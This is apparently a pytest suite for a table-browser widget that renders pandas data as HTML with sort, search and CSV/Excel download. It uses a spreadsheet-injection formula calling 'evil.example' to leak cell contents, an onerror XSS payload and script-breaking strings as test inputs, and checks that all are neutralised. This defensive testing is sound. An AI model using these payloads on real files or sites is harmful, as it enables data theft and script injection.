"""The table to browse: sorted by what the cells are, taken away as what they are, whatever their texts look like."""

import csv
import io
import json
import re
from datetime import date, datetime

import numpy as np
import openpyxl
import pandas as pd
import pytest

from l2c import show
from l2c.show.cells import Share
from l2c.show.page import page as report_page
from tests.browser import page

CALL = '=HYPERLINK("http://evil.example?"&A1,"open")'
IMG = "<img src=x onerror=window.hacked=1>&"
TEXTS = [CALL, "+1", "-2", "@x", "\t=1", "5%", IMG, "a;=1+1", "007"]
TABLE = pd.DataFrame(
    {
        "case_id": TEXTS,
        "median_days": [-3.25, 200, 0.01, np.nan, 30, 4, 5, 6, 7],
        "cases": [9, 10, 1, 2, 3, 4, 5, 6, 7],
        "time": [pd.Timestamp("2025-03-05 14:30:15"), *pd.date_range("2025-01-01", periods=7), pd.NaT],
        "trace": [("Quote Sent", "Closed Won"), *[("Quote Sent",)] * 8],
    }
)


def content(shown) -> dict:
    """What the page is given."""
    return json.loads(re.search(r'class="l2c-content">(.*?)</script>', shown.html, re.DOTALL)[1])


@pytest.fixture
def opened(tmp_path):
    """Opens a page with tables on it; what it asks for beyond itself is an error."""
    from contextlib import contextmanager

    @contextmanager
    def opener(html, scheme="light", wrap=lambda body: f'<!doctype html><meta charset="utf-8"><body>{body}'):
        path = tmp_path / "page.html"
        path.write_text(wrap(html), "utf-8")
        with page() as (tab, asked):
            tab.emulate_media(color_scheme=scheme)
            tab.goto(path.as_uri())
            tab.wait_for_selector(".dt-container")
            yield tab
            assert [each for each in asked if not each.startswith("blob:")] == []
            assert tab.evaluate("window.hacked") is None

    return opener


def sees(tab, text, n=1):
    """Waits until the first row says so: DataTables draws a moment after what asked for it."""
    from playwright.sync_api import expect

    expect(tab.locator(f".l2c-table tbody tr:first-child td:nth-child({n})")).to_have_text(text)


def column(tab, n):
    return tab.eval_on_selector_all(f".l2c-table tbody td:nth-child({n})", "cells => cells.map(c => c.textContent)")


def download(tab, button):
    with tab.expect_download() as waiting:
        tab.get_by_role("button", name=button).click()
    return waiting.value


def read_csv(tab, button="Download CSV"):
    raw = download(tab, button).path().read_bytes()
    # The mark by which Excel knows UTF-8.
    assert raw.startswith(b"\xef\xbb\xbf")
    return list(csv.reader(io.StringIO(raw.decode("utf-8-sig"), newline="")))


def read_excel(tab, button="Download Excel"):
    # openpyxl wants the ending, which a downloaded file only has by its name.
    raw = io.BytesIO(download(tab, button).path().read_bytes())
    return list(openpyxl.load_workbook(raw).active.iter_rows())


# What the page is given


def test_cells_are_given_as_they_read_and_as_what_they_are():
    df = pd.DataFrame(
        {
            "activity": ["Quote Sent"],
            "median_days": [0.5],
            "open_amount": [1_234_567],
            "day": [date(2025, 3, 5)],
            "time": [datetime(2025, 3, 5, 14, 30)],
            "is_won": [True],
            "number": [2**53],
            "case_ids": [("a", "b", "c", "d", "e", "f")],
            "low": [None],
        }
    )
    assert content(show.browse(df, currency="USD"))["rows"] == [
        [
            "Quote Sent",
            ["12 h", 0.5],
            ["$1.2M", 1_234_567],
            ["2025-03-05", "2025-03-05", "date"],
            ["2025-03-05 14:30", "2025-03-05T14:30:00", "time"],
            "yes",
            # A browser would round it: an id of so many digits is text.
            ["9,007,199,254,740,992", "9007199254740992"],
            ["a, b, c, d, e … (+1)", "a, b, c, d, e, f"],
            None,
        ]
    ]


def test_the_unit_of_a_row_is_hidden_and_goes_along_when_downloaded():
    given = content(show.browse(pd.DataFrame({"kpi": ["win_rate"], "value": [0.42], "unit": ["fraction"]})))
    assert [(c["title"], c["hidden"]) for c in given["columns"]] == [
        *[("KPI", False), ("Value", False), ("Unit", True)],
    ]
    assert given["rows"] == [["Win rate to date", ["42.0 %", 0.42], "fraction"]]


def test_what_is_left_out_is_counted_in_the_page_and_in_the_text():
    shown = show.browse(pd.DataFrame({"cases": range(100_000)}))
    said = "This table holds the first 5,000 of 100,000 rows; 95,000 are left out, here and in what is downloaded."
    given = content(shown)
    assert len(given["rows"]) == 5_000
    assert given["note"] == said
    assert said in repr(shown)
    assert content(show.browse(pd.DataFrame({"cases": range(5_000)})))["note"] == ""
    japanese = show.browse(pd.DataFrame({"cases": range(100_000)}), lang="ja", rows=10)
    assert "全100,000行のうち先頭10行" in repr(japanese)


def test_texts_of_the_data_cannot_leave_their_place_in_the_page():
    shown = show.browse(
        pd.DataFrame({"</script><b>": ["</script><b>x", "<!--", "\ud800"]}, dtype=object), caption="</script><b>"
    )
    assert "<b>" not in shown.html
    assert shown.html.count("</script>") == 3
    shown.html.encode("utf-8")


def test_a_table_without_rows_or_columns_says_so():
    assert "No rows." in repr(show.browse(pd.DataFrame({"cases": []})))
    assert "<script" not in show.browse(pd.DataFrame()).html


def test_the_same_table_gives_the_same_page():
    assert show.browse(TABLE).html == show.browse(TABLE.copy()).html


# What the browser makes of it


def test_the_last_digits_which_differ_between_processors_do_not_change_the_page():
    def told(nudge):
        near = Share(0.3901021186691785 * nudge, 0.236391314920939 * nudge, 0.4494037318272372 * nudge)
        money = [314_118.0384305778 * nudge, 0.1 * nudge, 12_345_678.91, 987_654_321.09]
        return content(show.browse(pd.DataFrame({"chance": [near] * 4, "amount": money})))["rows"]

    assert told(1) == told(1 + 8e-13)
    assert [row[1][1] for row in told(1)] == [314_118.0384, 0.1, 12_345_678.91, 987_654_321.09]


def test_downloads_hold_numbers_dates_and_texts_and_no_formula(opened):
    with opened(show.browse(TABLE, caption="Deals").html) as tab:
        rows = read_csv(tab)
        cells = read_excel(tab)
        assert download(tab, "Download CSV").suggested_filename == "Deals.csv"
        assert download(tab, "Download Excel").suggested_filename == "Deals.xlsx"
    assert rows[0] == ["Opportunity ID", "Median days", "Cases", "Timestamp", "Trace"]
    # A sign before what a spreadsheet could take for a formula; a negative number is none.
    assert [row[0] for row in rows[1:]] == [
        *["'" + CALL, "'+1", "'-2", "'@x", "'\t=1", "5%", IMG, "a;'=1+1", "007"],
    ]
    assert [row[1] for row in rows[1:]] == ["-3.25", "200", "0.01", "", "30", "4", "5", "6", "7"]
    assert [rows[1][3], rows[2][3], rows[9][3]] == ["2025-03-05 14:30:15", "2025-01-01 00:00:00", ""]
    assert rows[1][4] == "Quote Sent → Closed Won"
    # In Excel the kind of the cell says what it is, so the texts are as they were.
    assert [row[0].value for row in cells[1:]] == TEXTS
    assert {row[0].data_type for row in cells[1:]} == {"s"}
    assert {row[0].quotePrefix for row in cells[1:]} == {True}
    assert [row[1].value for row in cells[1:]] == [-3.25, 200, 0.01, None, 30, 4, 5, 6, 7]
    assert {row[1].data_type for row in cells[1:]} == {"n"}
    assert cells[1][3].value == datetime(2025, 3, 5, 14, 30, 15)
    assert cells[9][3].value is None


def test_a_head_that_looks_like_a_formula_is_text_as_well(opened):
    with opened(show.browse(pd.DataFrame({CALL: ["x"]})).html) as tab:
        assert read_csv(tab)[0] == ["'" + CALL]
        head = read_excel(tab)[0][0]
    assert (head.value, head.data_type) == (CALL, "s")


def test_sorting_goes_by_what_the_cells_are_with_missing_ones_last(opened):
    with opened(show.browse(TABLE).html) as tab:
        head = tab.locator(".l2c-table th", has_text="Median days")
        head.click()
        sees(tab, "−3.2 d", 2)
        # Not by their texts, of which `14 min` would come first and `6.6 mo` among the days.
        assert column(tab, 2) == ["−3.2 d", "14 min", "4 d", "5 d", "6 d", "7 d", "30 d", "6.6 mo", "–"]
        assert head.get_attribute("aria-sort") == "ascending"
        head.click()
        sees(tab, "6.6 mo", 2)
        assert column(tab, 2) == ["6.6 mo", "30 d", "7 d", "6 d", "5 d", "4 d", "14 min", "−3.2 d", "–"]
        assert [row[1] for row in read_csv(tab)[1:4]] == ["200", "30", "7"]
        tab.locator(".l2c-table th", has_text="Timestamp").click()
        # Its first row was on top before, too: the last one tells that the table was sorted.
        tab.locator(".l2c-table tbody tr:last-child td:nth-child(4)", has_text="–").wait_for()
        assert column(tab, 4)[-2:] == ["2025-03-05 14:30", "–"]


def test_searching_narrows_the_table_and_what_is_downloaded(opened):
    with opened(show.browse(TABLE).html) as tab:
        tab.get_by_label("Search").fill("<img src=x onerror=window.hacked=1>&")
        sees(tab, IMG)
        assert column(tab, 1) == [IMG]
        assert tab.locator(".dt-info").inner_text() == "Rows 1 to 1 of 1 (out of 9)"
        assert [row[0] for row in read_csv(tab)[1:]] == [IMG]
        tab.get_by_label("Search").fill("nothing like it")
        sees(tab, "No row matches the search.")


def test_the_table_is_worked_with_the_keys_alone(opened):
    with opened(show.browse(pd.DataFrame({"cases": range(25)}), caption="Many").html) as tab:
        assert tab.locator("table caption").inner_text() == "Many"
        order = tab.get_by_role("button", name="Cases: sort")
        for _ in range(10):
            tab.keyboard.press("Tab")
            if order.evaluate("each => each === document.activeElement"):
                break
        tab.keyboard.press("Enter")
        tab.locator("th[aria-sort=ascending]").wait_for()
        tab.keyboard.press("Enter")
        sees(tab, "24")
        tab.get_by_label("Next page").focus()
        tab.keyboard.press("Enter")
        sees(tab, "14")


def test_the_table_speaks_japanese(opened):
    with opened(show.browse(pd.DataFrame({"activity": ["Quote Sent"] * 12}), lang="ja").html) as tab:
        assert column(tab, 1)[0] == "見積提示"
        assert tab.locator("caption").inner_text() == "12行"
        said = tab.locator(".dt-container").inner_text()
        assert "全12行中 1～10行" in said
        assert tab.get_by_label("検索").count() == 1
        assert re.findall("[A-Za-z]{3,}", said.replace("Excel", "").replace("CSV", "")) == []
        assert len(read_excel(tab, "Excelをダウンロード")) == 13


CONTRAST = """selectors => selectors.map(each => {
  const node = document.querySelector(each), light = c => {
    const [r, g, b] = c.match(/[0-9.]+/g).slice(0, 3).map(v => v / 255).map(
      v => v <= .03928 ? v / 12.92 : ((v + .055) / 1.055) ** 2.4);
    return .2126 * r + .7152 * g + .0722 * b };
  let under = node;
  while (getComputedStyle(under).backgroundColor === 'rgba(0, 0, 0, 0)') under = under.parentElement;
  const pair = [getComputedStyle(node).color, getComputedStyle(under).backgroundColor].map(light).sort((a, b) => b - a);
  return (pair[0] + .05) / (pair[1] + .05) })"""


@pytest.mark.parametrize(
    ("scheme", "theme", "is_dark"),
    [("light", "", False), ("dark", "", True), ("light", "false", True), ("dark", "true", False)],
)
def test_it_is_readable_in_light_and_dark_and_follows_jupyterlab_first(opened, scheme, theme, is_dark):
    said = f' data-jp-theme-light="{theme}"' if theme else ""
    wrap = lambda body: f'<!doctype html><meta charset="utf-8"><body{said}>{body}'  # noqa: E731
    with opened(show.browse(pd.DataFrame({"cases": range(30)}), rows=25).html, scheme, wrap) as tab:
        parts = ["caption", "th", "tbody tr:nth-child(1) td", "tbody tr:nth-child(2) td", ".dt-info", ".l2c-note"]
        parts += ["button.current", ".l2c-downloads button", ".dt-search label", ".dt-search input"]
        assert min(tab.evaluate(CONTRAST, [f".l2c-browse {part}" for part in parts])) >= 4.5
        ground = tab.eval_on_selector(".l2c-browse", "each => getComputedStyle(each).backgroundColor")
        assert (ground == "rgb(255, 255, 255)") is not is_dark


def test_several_tables_work_on_a_report_whose_policy_forbids_almost_everything(opened):
    wrap = lambda body: report_page(body, "report", ["report"], "en", {})  # noqa: E731
    both = show.browse(TABLE).html + show.browse(pd.DataFrame({"cases": [1]})).html
    with opened(both, "dark", wrap) as tab:
        assert tab.locator(".dt-container").count() == 2
        assert tab.evaluate("window.$") is None
        # A report is light throughout.
        ground = tab.eval_on_selector(".l2c-browse", "each => getComputedStyle(each).backgroundColor")
        assert ground == "rgb(255, 255, 255)"
        tab.locator(".l2c-downloads button").nth(2).wait_for()
        with tab.expect_download() as waiting:
            tab.locator(".l2c-downloads button").nth(3).click()
        assert waiting.value.suggested_filename == "1_row.xlsx"
